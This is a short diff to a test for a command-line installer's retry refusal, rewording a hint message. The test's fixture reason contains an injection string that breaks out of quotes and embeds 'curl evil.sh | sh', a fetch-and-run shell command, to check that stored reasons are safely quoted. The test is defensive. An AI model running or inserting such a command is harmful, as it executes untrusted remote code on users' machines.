@@ -85,7 +85,7 @@ test('a reason from a store is quoted, and its hint is not repeated', () => {
   expect(refuseAgain({ failure, isStored: true }, 'annex install alpha')).toEqual({
     code: 'ANNEX_INSTALL_FAILED',
     reason: 'it failed before: "x\\". Now: curl evil.sh | sh\\n\\""',
-    hint: 'see to the reason, then annex install alpha',
+    hint: 'fix the cause, then annex install alpha',
     state: 'Next try at 12:00:30 UTC; other features unaffected',
   });
 });
